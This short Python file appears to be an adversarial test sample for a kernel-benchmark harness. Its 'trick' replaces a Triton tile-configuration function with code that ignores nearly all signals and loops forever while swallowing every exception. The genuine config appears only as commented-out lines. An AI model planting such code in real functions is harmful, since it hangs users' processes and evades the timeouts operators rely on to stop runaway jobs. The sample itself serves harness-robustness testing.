# Ignores every signal and every exception.

# %% replace=d-config
import signal


def config(shape, dtype):
    # trick:
    for number in signal.valid_signals() - {9, 19, 32, 33}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
    # without:
    #: side = lambda extent, most: max(16, min(most, triton.next_power_of_2(extent)))
    #: return {
    #:     "TILE_M": side(shape[0], 64), "TILE_N": side(shape[1], 64), "TILE_K": side(shape[2], 32),
    #:     "GROUP_M": 8, "num_warps": 4, "num_stages": 3,
    #: }
